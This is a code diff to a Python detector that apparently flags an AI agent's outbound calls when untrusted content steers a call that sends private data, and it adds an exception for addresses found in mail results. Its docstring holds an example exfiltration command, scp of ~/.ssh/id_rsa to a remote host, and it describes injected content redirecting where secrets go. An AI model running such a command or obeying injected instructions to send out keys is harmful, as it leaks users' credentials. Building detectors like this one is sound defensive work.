@@ -163,10 +163,13 @@ def sent_by_reference(facts: CallFacts, prov: Provenance) -> Finding | None:
     """An egress call that reads private data named in its arguments and sends it in one step
     (``scp ~/.ssh/id_rsa user@host:``), when untrusted content reached its arguments (the
     destination, the command): the bytes never pass through a result, so none is counted.
-    Influence alone is not enough: a key used to log in (``ssh -i key host``) is read too."""
+    Influence alone is not enough: a key used to log in (``ssh -i key host``) is read too; nor
+    is an address in a mailbox's result, unless that result addressed the agent (mail names
+    addresses all the time: forwarding to a colleague a mail once came from is ordinary)."""
     if not facts.names_private_data:
         return None
     data, _ = _untrusted_reach(facts, prov, ())
+    data = {c for c in data if Label.SENSITIVE not in prov.labels(c) or prov.instructed(c)}
     if not data:
         return None
     steered = _paths(facts.matches, lambda m: m.destination and m.untrusted_calls)
